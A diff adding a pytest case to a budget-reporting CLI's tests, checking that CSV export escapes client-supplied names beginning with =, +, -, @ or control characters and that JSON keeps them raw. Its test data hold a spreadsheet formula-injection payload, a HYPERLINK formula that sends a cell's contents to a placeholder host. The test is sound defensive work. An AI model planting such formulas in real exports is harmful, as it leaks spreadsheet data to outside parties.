@@ -20,9 +20,11 @@ from test_log_command import DECISION, OUTCOME
 from typer.testing import CliRunner
 
 from router.commands.budget import command
+from router.commands.statement_formats import Told, write
 from router.config.budgets import windows_of
 from router.config.load import load_config
 from router.directory.directory import Directory
+from router.statement.sums import Statement, Sums
 from router.store.archive import archive_once
 from router.store.base import End, Start
 from router.store.embedded import EmbeddedValkey
@@ -186,6 +188,29 @@ def test_csv_has_every_sum_and_a_line_for_the_total(config: Path, spent: Embedde
     ]  # fmt: skip
     assert sum(int(row["nano_usd"]) for row in rows[:-1]) == int(rows[-1]["nano_usd"]) == 1_000_004_321
     assert rows[-1]["usd"] == "1.000004321"
+
+
+FORMULA = '=HYPERLINK("https://x.example/?"&A1,"a")'
+
+
+@pytest.mark.parametrize(("name", "cell"), [
+    (FORMULA, f"'{FORMULA}"), ("+1+2", "'+1+2"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\n=1", "'\n=1"), ("\r=1", "'\n=1"), ("a\r=1", "a\n=1"), ("a\r\n=1,=2", "a\n=1,=2"),
+    ("a=1", "a=1"), ("'=1", "'=1"), ("2026-11-30", "2026-11-30"), ("", ""), (None, ""),
+])  # fmt: skip
+def test_a_csv_cell_of_a_clients_words_is_no_formula(
+    capsys: pytest.CaptureFixture[str], name: str | None, cell: str
+) -> None:
+    found = Statement(("end_user", "tag:team"))
+    found.groups[name, name] = Sums(requests=1, nano_usd=-5, cancelled_nano_usd=-5)
+    write(Told(found, (None, None), (), ()), "csv")
+    group, total = csv.DictReader(io.StringIO(capsys.readouterr().out, newline=""))
+    assert (group["end_user"], group["tag:team"]) == (cell, cell)
+    assert (total["end_user"], total["tag:team"]) == ("", "")
+    for row in (group, total):
+        assert (row["nano_usd"], row["usd"]) == ("-5", "-0.000000005"), "a number stays one"
+    write(Told(found, (None, None), (), ()), "json")
+    assert json.loads(capsys.readouterr().out)["groups"][0]["end_user"] == name, "JSON is for programs: as it came"
 
 
 def test_people_get_a_table_with_a_total(config: Path, spent: EmbeddedValkey) -> None:
